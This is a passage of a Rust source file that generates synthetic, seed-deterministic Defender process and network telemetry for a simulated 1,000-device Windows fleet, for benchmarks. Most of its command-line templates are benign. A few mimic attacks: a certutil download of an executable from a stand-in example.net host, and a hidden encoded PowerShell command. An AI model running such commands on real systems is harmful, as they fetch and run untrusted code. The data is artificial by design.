//! A synthetic fleet for benchmarks: `DeviceProcessEvents` rows and the `DeviceNetworkEvents`
//! rows of the processes that connect, deterministic by seed, with the shape of a real estate.
//!
//! - **Devices**: 1,000 (100 servers, 900 workstations) with a skewed activity (Zipf-like, the
//!   busiest ~40 times the median), each with a primary user, an IP address, and its own
//!   long-lived processes (explorer, services, two svchost groups, WMI, two browsers) with
//!   fixed process ids and boot-time creation times, as Windows has.
//! - **Executables**: 300 names (about 60 real Windows and application binaries, the rest
//!   vendor tools), Zipf-skewed (the top one is ~1 row in 5), each with one folder (per-user
//!   installs have the user in it), hashes, size and version information.
//! - **Accounts**: 2,000 users (one primary user per device, the rest roaming admins seen across
//!   devices) plus SYSTEM, LOCAL SERVICE and NETWORK SERVICE; the account, integrity level,
//!   logon id and session follow from the parent process, as they do on Windows.
//! - **Process trees**: a process is started by one of its device's long-lived processes or by
//!   the device's most recent shell (`cmd`, `powershell`), so shells parent consoles and tools.
//! - **Command lines**: per-executable templates with varying arguments (numbers, hex and GUID
//!   ids, user names, services, hosts); services and consoles repeat exactly, browsers and
//!   scripts vary.
//! - **Process ids**: multiples of 4 below 131,072, so ids are reused over days on busy devices
//!   (as on Windows: joins on `DeviceId` + `ProcessId` match reused ids too).
//! - **Time**: process events evenly spread, in time order, over [`FleetConfig::days`] days
//!   from [`FleetConfig::start`]; `ReportId` counts per device across both tables.
//! - **Network**: about one process in five connects, one to four times within two minutes of
//!   its start, to public endpoints (about 400 domains over 3,000 addresses, skewed) or to the
//!   fleet's servers; the connection's `InitiatingProcess*` columns are the process's own, so a
//!   join on `DeviceId` + `ProcessId` = `InitiatingProcessId` finds it.
//!
//! `AdditionalFields` is left empty, as Defender leaves it on these tables.
//!
//! ```
//! use rampart_testdata::fleet::{FleetConfig, ProcessEvents};
//! let config = FleetConfig { processes: 1000, ..FleetConfig::default() };
//! let mut processes = ProcessEvents::new(&config);
//! let rows: usize = processes.by_ref().map(|b| b.num_rows()).sum();
//! assert_eq!(rows, 1000);
//! let connections: usize = processes.network_events().map(|b| b.num_rows()).sum();
//! assert!(connections > 0);
//! ```

use std::fmt::Write;

use chrono::{DateTime, Utc};
use rampart_schema::arrow_array::RecordBatch;
use rampart_schema::{
    DeviceNetworkEvents, DeviceNetworkEventsBuilder, DeviceProcessEvents,
    DeviceProcessEventsBuilder,
};

/// What to generate.
#[derive(Debug, Clone)]
pub struct FleetConfig {
    /// Seeds every random choice: the same config gives the same rows.
    pub seed: u64,
    /// `DeviceProcessEvents` rows.
    pub processes: usize,
    /// When the first process starts.
    pub start: DateTime<Utc>,
    /// Days the process events span.
    pub days: u32,
    /// Rows per record batch (the last one may hold fewer).
    pub batch_rows: usize,
}

impl Default for FleetConfig {
    fn default() -> FleetConfig {
        FleetConfig {
            seed: 42,
            processes: 1_000_000,
            // 2024-05-01T00:00:00Z (a valid time, so the fallback is never taken).
            start: DateTime::from_timestamp(1_714_521_600, 0).unwrap_or_default(),
            days: 3,
            batch_rows: 8192,
        }
    }
}

const DEVICES: usize = 1000;
const SERVERS: usize = 100;
const USERS: usize = 2000;
const EXECUTABLES: usize = 300;
const DOMAINS: usize = 400;
const ENDPOINTS: usize = 3000;
const MICROS_PER_DAY: i64 = 86_400_000_000;
/// Connections happen within this long after their process starts.
const CONNECT_WINDOW_US: u64 = 120_000_000;

/// splitmix64: deterministic, fast and dependency-free.
#[derive(Debug, Clone)]
pub struct Rng(pub u64);

impl Rng {
    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n` > 0; the modulo bias is negligible for the small `n` used here).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }

    /// In `0..n`, small values more likely (the smaller of two draws).
    pub fn skewed(&mut self, n: u64) -> u64 {
        let a = self.below(n);
        let b = self.below(n);
        a.min(b)
    }

    /// True with probability `per_mille` / 1000.
    pub fn chance(&mut self, per_mille: u64) -> bool {
        self.below(1000) < per_mille
    }

    fn hex(&mut self, digits: usize, out: &mut String) {
        let mut left = digits;
        while left > 0 {
            let take = left.min(16);
            let _ = write!(out, "{:016x}", self.next_u64());
            out.truncate(out.len() - (16 - take));
            left -= take;
        }
    }

    fn hex_string(&mut self, digits: usize) -> String {
        let mut s = String::with_capacity(digits);
        self.hex(digits, &mut s);
        s
    }

    fn guid(&mut self, out: &mut String) {
        for (i, digits) in [8, 4, 4, 4, 12].into_iter().enumerate() {
            if i > 0 {
                out.push('-');
            }
            self.hex(digits, out);
        }
    }
}

/// Draws indices `0..n` with Zipf weights `1 / (i + 1)^exponent`.
#[derive(Debug, Clone)]
struct Zipf {
    cumulative: Vec<u64>,
}

impl Zipf {
    fn new(n: usize, exponent: f64) -> Zipf {
        let mut total = 0u64;
        let cumulative = (0..n)
            .map(|i| {
                total += (1e9 / ((i + 1) as f64).powf(exponent)) as u64 + 1;
                total
            })
            .collect();
        Zipf { cumulative }
    }

    fn pick(&self, rng: &mut Rng) -> usize {
        let total = self.cumulative.last().copied().unwrap_or(1);
        let x = rng.below(total);
        self.cumulative.partition_point(|&c| c <= x)
    }
}

/// What an executable is, which decides who starts it, as whom, what its command lines look
/// like and how often it connects.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Service,
    Console,
    Com,
    /// A browser; its parent is the browser's main process in this slot.
    Browser(usize),
    Shell,
    PowerShell,
    Task,
    App,
    Dev,
    Tool,
    Rundll,
}

impl Kind {
    /// Connections per mille of processes (about one process in five overall).
    fn connect_per_mille(self) -> u64 {
        match self {
            Kind::Browser(_) => 700,
            Kind::App | Kind::Dev => 400,
            Kind::Task => 300,
            Kind::Service => 250,
            Kind::PowerShell => 200,
            Kind::Com => 80,
            Kind::Tool => 60,
            Kind::Rundll => 50,
            Kind::Shell => 20,
            Kind::Console => 0,
        }
    }
}

/// A real executable: name, folder (with `{user}` for per-user installs), company, product,
/// description, kind and command-line templates (the first ones are the most common).
struct Known {
    name: &'static str,
    dir: &'static str,
    company: &'static str,
    product: &'static str,
    description: &'static str,
    kind: Kind,
    commands: &'static [&'static str],
}

const MS: &str = "Microsoft Corporation";
const WINDOWS: &str = "Microsoft® Windows® Operating System";
const SYS32: &str = "C:\\Windows\\System32";
const CHROME_DIR: &str = "C:\\Program Files\\Google\\Chrome\\Application";
const EDGE_DIR: &str = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application";
const OFFICE_DIR: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16";

/// Templates expand `{path}` (the executable's full path), `{user}`, `{svc}` (a service),
/// `{host}` (a server), `{n}` (0–99,999), `{k}` (0–49), `{hex}` (8 hex digits), `{guid}`, and
/// `{guidb}` (an upper-case GUID in braces, as COM writes it).
#[rustfmt::skip]
const KNOWN: &[Known] = &[
    Known { name: "svchost.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Host Process for Windows Services", kind: Kind::Service, commands: &[
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {svc}",
        "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s {svc}",
        "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc",
        "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{hex}",
    ] },
    Known { name: "conhost.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Console Window Host", kind: Kind::Console, commands: &[
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0x4",
    ] },
    Known { name: "backgroundTaskHost.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Background Task Host", kind: Kind::Com, commands: &[
        "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppX{hex}.mca",
        "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider",
    ] },
    Known { name: "RuntimeBroker.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Runtime Broker", kind: Kind::Com, commands: &[
        "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
    ] },
    Known { name: "chrome.exe", dir: CHROME_DIR, company: "Google LLC", product: "Google Chrome", description: "Google Chrome", kind: Kind::Browser(5), commands: &[
        "\"{path}\" --type=renderer --field-trial-handle={n},i,{n},{n},262144 --lang=en-US --renderer-client-id={k} --launch-time-ticks={n}{n} --mojo-platform-channel-handle={n} /prefetch:1",
        "\"{path}\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle={n} --field-trial-handle={n},i,{n} /prefetch:8",
        "\"{path}\" --type=gpu-process --gpu-preferences={hex}{hex}AAAAAAA --mojo-platform-channel-handle={n} /prefetch:2",
    ] },
    Known { name: "msedge.exe", dir: EDGE_DIR, company: MS, product: "Microsoft Edge", description: "Microsoft Edge", kind: Kind::Browser(6), commands: &[
        "\"{path}\" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --renderer-client-id={k} --mojo-platform-channel-handle={n} --field-trial-handle={n},i,{n} /prefetch:1",
        "\"{path}\" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US --service-sandbox-type=service --mojo-platform-channel-handle={n} /prefetch:8",
    ] },
    Known { name: "cmd.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Windows Command Processor", kind: Kind::Shell, commands: &[
        "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\ProgramData\\Contoso\\scripts\\task{k}.cmd\"\"",
        "C:\\Windows\\system32\\cmd.exe /d /s /c \"git status --porcelain\"",
        "cmd.exe /c echo {n} > C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex}.tmp",
        "\"C:\\Windows\\system32\\cmd.exe\"",
        "cmd.exe /c ipconfig /all",
        "cmd.exe /c schtasks /query /tn \\Microsoft\\Windows\\Task{k}",
    ] },
    Known { name: "powershell.exe", dir: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", company: MS, product: WINDOWS, description: "Windows PowerShell", kind: Kind::PowerShell, commands: &[
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Contoso\\scripts\\job{k}.ps1",
        "\"{path}\" -NonInteractive -NoProfile -Command \"Get-Service -Name {svc} | Select-Object Status\"",
        "\"{path}\" -ExecutionPolicy Restricted -Command \"Write-Host 'Final result: 1';\"",
        "powershell.exe -NoLogo -Command \"Get-CimInstance Win32_LogicalDisk | Select-Object FreeSpace\"",
        "\"{path}\"",
        "powershell.exe -nop -w hidden -EncodedCommand JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAg{hex}",
    ] },
    Known { name: "taskhostw.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Host Process for Windows Tasks", kind: Kind::Task, commands: &[
        "taskhostw.exe {hex}",
        "taskhostw.exe KEYROAMING",
        "taskhostw.exe Install $(Arg0)",
    ] },
    Known { name: "WmiPrvSE.exe", dir: "C:\\Windows\\System32\\wbem", company: MS, product: WINDOWS, description: "WMI Provider Host", kind: Kind::Com, commands: &[
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
    ] },
    Known { name: "dllhost.exe", dir: SYS32, company: MS, product: WINDOWS, description: "COM Surrogate", kind: Kind::Com, commands: &[
        "C:\\Windows\\system32\\DllHost.exe /Processid:{guidb}",
    ] },
    Known { name: "SearchProtocolHost.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Microsoft Windows Search Protocol Host", kind: Kind::Com, commands: &[
        "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{k}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{k} 1 -2147483646 \"Software\\Microsoft\\Windows Search\"",
    ] },
    Known { name: "SearchFilterHost.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Microsoft Windows Search Filter Host", kind: Kind::Com, commands: &[
        "\"C:\\Windows\\system32\\SearchFilterHost.exe\" 0 {n} {n} {n} {n}",
    ] },
    Known { name: "OneDrive.exe", dir: "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive", company: MS, product: "Microsoft OneDrive", description: "Microsoft OneDrive", kind: Kind::App, commands: &[
        "\"{path}\" /background",
        "\"{path}\" /updateInstalled /background",
    ] },
    Known { name: "ms-teams.exe", dir: "C:\\Program Files\\WindowsApps\\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe", company: MS, product: "Microsoft Teams", description: "Microsoft Teams", kind: Kind::App, commands: &[
        "\"{path}\" msteams:system-initiated",
        "\"{path}\" --type=renderer --renderer-client-id={k} --mojo-platform-channel-handle={n}",
    ] },
    Known { name: "Code.exe", dir: "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code", company: MS, product: "Visual Studio Code", description: "Visual Studio Code", kind: Kind::Dev, commands: &[
        "\"{path}\" --type=renderer --vscode-window-config=vscode:{guid} --mojo-platform-channel-handle={n}",
        "\"{path}\" \"C:\\Users\\{user}\\projects\\tool{k}\"",
    ] },
    Known { name: "git.exe", dir: "C:\\Program Files\\Git\\cmd", company: "The Git Development Community", product: "Git", description: "Git for Windows", kind: Kind::Dev, commands: &[
        "\"C:\\Program Files\\Git\\cmd\\git.exe\" status --porcelain=v2 -z",
        "git.exe fetch origin --prune",
        "git.exe pull origin main",
        "git.exe log -n {k} --oneline",
        "git.exe clone https://github.com/contoso/tool{k}.git",
    ] },
    Known { name: "python.exe", dir: "C:\\Program Files\\Python311", company: "Python Software Foundation", product: "Python", description: "Python", kind: Kind::Dev, commands: &[
        "python.exe C:\\Users\\{user}\\projects\\tool{k}\\main.py --port {n}",
        "python.exe -m pip install --upgrade pip",
        "\"{path}\" -m pytest -q tests\\test_{k}.py",
    ] },
    Known { name: "node.exe", dir: "C:\\Program Files\\nodejs", company: "Node.js", product: "Node.js", description: "Node.js JavaScript Runtime", kind: Kind::Dev, commands: &[
        "\"{path}\" C:\\Users\\{user}\\projects\\web{k}\\node_modules\\.bin\\vite --port {n}",
        "node.exe server.js --port {n}",
    ] },
    Known { name: "rundll32.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Windows host process (Rundll32)", kind: Kind::Rundll, commands: &[
        "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\shell32.dll,Control_RunDLL {n}",
        "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
        "C:\\Windows\\system32\\rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh",
    ] },
    Known { name: "sc.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Service Control Manager Configuration Tool", kind: Kind::Tool, commands: &[
        "sc.exe query {svc}",
        "sc.exe start {svc}",
    ] },
    Known { name: "net.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Net Command", kind: Kind::Tool, commands: &[
        "net.exe use",
        "net user {user} /domain",
        "net.exe localgroup administrators",
    ] },
    Known { name: "net1.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Net Command", kind: Kind::Tool, commands: &[
        "C:\\Windows\\system32\\net1 user {user} /domain",
        "C:\\Windows\\system32\\net1 use",
    ] },
    Known { name: "whoami.exe", dir: SYS32, company: MS, product: WINDOWS, description: "whoami - displays logged on user information", kind: Kind::Tool, commands: &[
        "whoami.exe",
        "whoami /groups",
        "whoami /priv",
    ] },
    Known { name: "ipconfig.exe", dir: SYS32, company: MS, product: WINDOWS, description: "IP Configuration Utility", kind: Kind::Tool, commands: &[
        "ipconfig /all",
        "ipconfig /flushdns",
    ] },
    Known { name: "reg.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Registry Console Tool", kind: Kind::Tool, commands: &[
        "reg.exe query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "reg.exe add HKCU\\Software\\Contoso\\Agent /v Setting{k} /t REG_DWORD /d {k} /f",
    ] },
    Known { name: "schtasks.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Task Scheduler Configuration Tool", kind: Kind::Tool, commands: &[
        "schtasks.exe /query /fo CSV /nh",
        "schtasks /run /tn \\Microsoft\\Windows\\Task{k}",
    ] },
    Known { name: "tasklist.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Lists the current running tasks", kind: Kind::Tool, commands: &[
        "tasklist /fo csv",
        "tasklist /svc /fi \"PID eq {n}\"",
    ] },
    Known { name: "findstr.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Find String (QGREP) Utility", kind: Kind::Tool, commands: &[
        "findstr /i \"error\" C:\\Logs\\app{k}.log",
    ] },
    Known { name: "msiexec.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Windows installer", kind: Kind::Task, commands: &[
        "C:\\Windows\\system32\\msiexec.exe /V",
        "msiexec.exe /i \"C:\\Users\\{user}\\Downloads\\setup{k}.msi\" /qn",
    ] },
    Known { name: "MoUsoCoreWorker.exe", dir: "C:\\Windows\\uus\\AMD64", company: MS, product: WINDOWS, description: "MoUSO Core Worker Process", kind: Kind::Task, commands: &[
        "C:\\Windows\\uus\\AMD64\\MoUsoCoreWorker.exe -Embedding",
    ] },
    Known { name: "TiWorker.exe", dir: "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3988_none_7e3c0e6f1d1a5b5c", company: MS, product: WINDOWS, description: "Windows Modules Installer Worker", kind: Kind::Service, commands: &[
        "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3988_none_7e3c0e6f1d1a5b5c\\TiWorker.exe -Embedding",
    ] },
    Known { name: "CompatTelRunner.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Microsoft Compatibility Telemetry", kind: Kind::Task, commands: &[
        "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun",
        "C:\\Windows\\system32\\CompatTelRunner.exe -m:generaltel.dll -f:DoCensusRun",
    ] },
    Known { name: "MpCmdRun.exe", dir: "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0", company: MS, product: WINDOWS, description: "Microsoft Malware Protection Command Line Utility", kind: Kind::Task, commands: &[
        "\"{path}\" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke",
        "\"{path}\" -wdenable",
    ] },
    Known { name: "WerFault.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Windows Problem Reporting", kind: Kind::App, commands: &[
        "C:\\Windows\\system32\\WerFault.exe -u -p {n} -s {n}",
    ] },
    Known { name: "smartscreen.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Windows Defender SmartScreen", kind: Kind::Com, commands: &[
        "C:\\Windows\\System32\\smartscreen.exe -Embedding",
    ] },
    Known { name: "sihost.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Shell Infrastructure Host", kind: Kind::Service, commands: &[
        "sihost.exe",
    ] },
    Known { name: "ctfmon.exe", dir: SYS32, company: MS, product: WINDOWS, description: "CTF Loader", kind: Kind::Com, commands: &[
        "\"ctfmon.exe\"",
    ] },
    Known { name: "notepad.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Notepad", kind: Kind::App, commands: &[
        "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\{user}\\Documents\\notes{k}.txt",
        "\"C:\\Windows\\system32\\notepad.exe\"",
    ] },
    Known { name: "EXCEL.EXE", dir: OFFICE_DIR, company: MS, product: "Microsoft Office", description: "Microsoft Excel", kind: Kind::App, commands: &[
        "\"{path}\" \"C:\\Users\\{user}\\Documents\\report{k}.xlsx\"",
        "\"{path}\" /automation -Embedding",
    ] },
    Known { name: "WINWORD.EXE", dir: OFFICE_DIR, company: MS, product: "Microsoft Office", description: "Microsoft Word", kind: Kind::App, commands: &[
        "\"{path}\" /n \"C:\\Users\\{user}\\Documents\\letter{k}.docx\" /o \"\"",
    ] },
    Known { name: "OUTLOOK.EXE", dir: OFFICE_DIR, company: MS, product: "Microsoft Office", description: "Microsoft Outlook", kind: Kind::App, commands: &[
        "\"{path}\" ",
        "\"{path}\" /recycle",
    ] },
    Known { name: "POWERPNT.EXE", dir: OFFICE_DIR, company: MS, product: "Microsoft Office", description: "Microsoft PowerPoint", kind: Kind::App, commands: &[
        "\"{path}\" \"C:\\Users\\{user}\\Documents\\deck{k}.pptx\"",
    ] },
    Known { name: "AcroRd32.exe", dir: "C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader", company: "Adobe Systems Incorporated", product: "Adobe Acrobat Reader DC", description: "Adobe Acrobat Reader DC", kind: Kind::App, commands: &[
        "\"{path}\" \"C:\\Users\\{user}\\Downloads\\invoice{n}.pdf\"",
        "\"{path}\" --type=renderer /prefetch:1 --channel={n}.{n}",
    ] },
    Known { name: "Zoom.exe", dir: "C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin", company: "Zoom Video Communications, Inc.", product: "Zoom", description: "Zoom Meetings", kind: Kind::App, commands: &[
        "\"{path}\" \"--url=zoommtg://zoom.us/join?action=join&confno={n}{n}\"",
    ] },
    Known { name: "slack.exe", dir: "C:\\Users\\{user}\\AppData\\Local\\slack\\app-4.38.125", company: "Slack Technologies, LLC", product: "Slack", description: "Slack", kind: Kind::App, commands: &[
        "\"{path}\" --type=renderer --enable-features=WebRTCPipeWireCapturer --renderer-client-id={k}",
        "\"{path}\" --startup",
    ] },
    Known { name: "gpupdate.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Microsoft® Windows Group Policy Update Utility", kind: Kind::Tool, commands: &[
        "gpupdate /force",
        "gpupdate.exe /target:computer",
    ] },
    Known { name: "certutil.exe", dir: SYS32, company: MS, product: WINDOWS, description: "CertUtil.exe", kind: Kind::Tool, commands: &[
        "certutil.exe -verifystore Root",
        "certutil -urlcache -split -f http://{hex}.example.net/update.bin C:\\Users\\Public\\update.exe",
    ] },
    Known { name: "wevtutil.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Eventing Command Line Utility", kind: Kind::Tool, commands: &[
        "wevtutil.exe qe System /c:{k} /rd:true /f:text",
    ] },
    Known { name: "cscript.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Microsoft ® Console Based Script Host", kind: Kind::Tool, commands: &[
        "cscript.exe //nologo C:\\Windows\\system32\\slmgr.vbs /dli",
        "cscript //B C:\\ProgramData\\Contoso\\scripts\\inventory{k}.vbs",
    ] },
    Known { name: "wscript.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Microsoft ® Windows Based Script Host", kind: Kind::Tool, commands: &[
        "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex}.vbs\"",
    ] },
    Known { name: "regsvr32.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Microsoft(C) Register Server", kind: Kind::Tool, commands: &[
        "regsvr32.exe /s \"C:\\Program Files\\Contoso\\Agent\\shellext{k}.dll\"",
    ] },
    Known { name: "netsh.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Network Command Shell", kind: Kind::Tool, commands: &[
        "netsh advfirewall show allprofiles",
        "netsh wlan show interfaces",
    ] },
    Known { name: "curl.exe", dir: SYS32, company: "curl, https://curl.se/", product: "The curl executable", description: "The curl executable", kind: Kind::Tool, commands: &[
        "curl.exe -s https://api.contoso.com/v1/health?id={n}",
        "curl -fsSL -o C:\\Users\\{user}\\Downloads\\tool{k}.zip https://downloads.contoso.com/tool{k}.zip",
    ] },
    Known { name: "PING.EXE", dir: SYS32, company: MS, product: WINDOWS, description: "TCP/IP Ping Command", kind: Kind::Tool, commands: &[
        "ping -n 1 {host}",
        "ping.exe -4 -n 2 10.0.{k}.{k}",
    ] },
    Known { name: "tar.exe", dir: SYS32, company: MS, product: WINDOWS, description: "bsdtar archive tool", kind: Kind::Tool, commands: &[
        "tar.exe -xf C:\\Users\\{user}\\Downloads\\archive{k}.tar.gz -C C:\\Users\\{user}\\projects",
    ] },
    Known { name: "7z.exe", dir: "C:\\Program Files\\7-Zip", company: "Igor Pavlov", product: "7-Zip", description: "7-Zip Console", kind: Kind::Tool, commands: &[
        "\"{path}\" x -y -oC:\\Users\\{user}\\Downloads\\out{k} C:\\Users\\{user}\\Downloads\\pack{n}.7z",
    ] },
    Known { name: "java.exe", dir: "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.10.7-hotspot\\bin", company: "Eclipse Adoptium", product: "OpenJDK Platform 17.0.10", description: "OpenJDK Platform binary", kind: Kind::Dev, commands: &[
        "\"{path}\" -Xmx2g -jar C:\\Tools\\build{k}\\gradle-wrapper.jar assemble",
        "java.exe -cp C:\\Tools\\lib\\* com.contoso.Main --port {n}",
    ] },
    Known { name: "dotnet.exe", dir: "C:\\Program Files\\dotnet", company: MS, product: "Microsoft .NET", description: ".NET Host", kind: Kind::Dev, commands: &[
        "\"{path}\" build C:\\Users\\{user}\\projects\\svc{k}\\svc{k}.csproj",
        "dotnet.exe test --no-build --logger trx",
    ] },
    Known { name: "pwsh.exe", dir: "C:\\Program Files\\PowerShell\\7", company: MS, product: "PowerShell", description: "pwsh", kind: Kind::PowerShell, commands: &[
        "\"{path}\" -NoLogo",
        "pwsh.exe -NoProfile -File C:\\ProgramData\\Contoso\\scripts\\report{k}.ps1",
    ] },
    Known { name: "ssh.exe", dir: "C:\\Windows\\System32\\OpenSSH", company: "OpenSSH for Windows", product: "OpenSSH for Windows", description: "OpenSSH SSH client", kind: Kind::Dev, commands: &[
        "ssh.exe {user}@{host}",
        "\"{path}\" -T git@github.com",
    ] },
    Known { name: "mstsc.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Remote Desktop Connection", kind: Kind::App, commands: &[
        "\"C:\\Windows\\system32\\mstsc.exe\" /v:{host}",
    ] },
    Known { name: "Taskmgr.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Task Manager", kind: Kind::App, commands: &[
        "\"C:\\Windows\\system32\\taskmgr.exe\" /{k}",
    ] },
    Known { name: "consent.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Consent UI for administrative applications", kind: Kind::Service, commands: &[
        "consent.exe {n} 350 000001{hex}",
    ] },
    Known { name: "explorer.exe", dir: "C:\\Windows", company: MS, product: WINDOWS, description: "Windows Explorer", kind: Kind::App, commands: &[
        "C:\\Windows\\explorer.exe /factory,{guidb} -Embedding",
        "\"C:\\Windows\\explorer.exe\" C:\\Users\\{user}\\Documents",
    ] },
    Known { name: "services.exe", dir: SYS32, company: MS, product: WINDOWS, description: "Services and Controller app", kind: Kind::Service, commands: &[
        "C:\\Windows\\system32\\services.exe",
    ] },
];

/// Vendors and products of the executables that are not in [`KNOWN`].
#[rustfmt::skip]
const VENDORS: [&str; 12] = [
    "Acme", "Contoso", "Fabrikam", "Northwind", "Tailspin", "Woodgrove", "Litware", "Proseware",
    "Adatum", "Wingtip", "Fourthcoffee", "Lucerne",
];
#[rustfmt::skip]
const PRODUCTS: [&str; 20] = [
    "Agent", "Updater", "Sync", "Helper", "Service", "Launcher", "Monitor", "Client", "Tray",
    "Host", "Notifier", "Setup", "Backup", "Scanner", "Viewer", "Editor", "Reporter",
    "Collector", "Broker", "Studio",
];
#[rustfmt::skip]
const SERVICE_COMMANDS: &[&str] = &["\"{path}\"", "\"{path}\" --service", "\"{path}\" /service /instance:{k}"];
const TASK_COMMANDS: &[&str] = &[
    "\"{path}\" /update /silent",
    "\"{path}\" --check-updates --channel=stable --session={guid}",
    "\"{path}\" /install /quiet /norestart /log C:\\Windows\\Temp\\{hex}.log",
];
const APP_COMMANDS: &[&str] = &[
    "\"{path}\"",
    "\"{path}\" --autostart",
    "\"{path}\" \"C:\\Users\\{user}\\Documents\\file{n}.dat\"",
    "\"{path}\" --profile-directory=Default --session={guid}",
];
#[rustfmt::skip]
const SERVICES: [&str; 12] = [
    "Schedule", "BITS", "wuauserv", "Winmgmt", "DsmSvc", "gpsvc", "UsoSvc", "TokenBroker",
    "LanmanWorkstation", "CryptSvc", "Dnscache", "WinHttpAutoProxySvc",
];
#[rustfmt::skip]
const FIRST_NAMES: [&str; 40] = [
    "anna", "ben", "carla", "david", "elena", "felix", "grace", "hugo", "ines", "jonas", "karen",
    "leo", "maria", "nils", "olga", "paul", "quinn", "rosa", "sven", "tara", "umar", "vera",
    "will", "xenia", "yusuf", "zoe", "adam", "bea", "chris", "dana", "emil", "fiona", "georg",
    "hanna", "ivan", "julia", "kai", "lena", "mark", "nora",
];
#[rustfmt::skip]
const LAST_NAMES: [&str; 50] = [
    "berg", "chen", "diaz", "evans", "fischer", "garcia", "hansen", "ito", "jensen", "kim",
    "lopez", "meyer", "nguyen", "olsen", "patel", "quist", "rossi", "schmidt", "tanaka", "unger",
    "vogel", "wagner", "xu", "young", "zimmer", "adler", "brandt", "costa", "dahl", "eriksen",
    "ford", "gray", "holm", "ibsen", "jung", "keller", "lind", "moreau", "novak", "ortiz",
    "park", "quinn", "reyes", "silva", "torres", "urban", "vance", "weber", "yilmaz", "zhou",
];
#[rustfmt::skip]
const DOMAINS_KNOWN: [&str; 24] = [
    "login.microsoftonline.com", "www.google.com", "github.com", "outlook.office365.com",
    "update.googleapis.com", "settings-win.data.microsoft.com", "teams.microsoft.com",
    "edge.microsoft.com", "clients2.google.com", "pypi.org", "registry.npmjs.org",
    "ctldl.windowsupdate.com", "download.windowsupdate.com", "slack.com", "zoom.us",
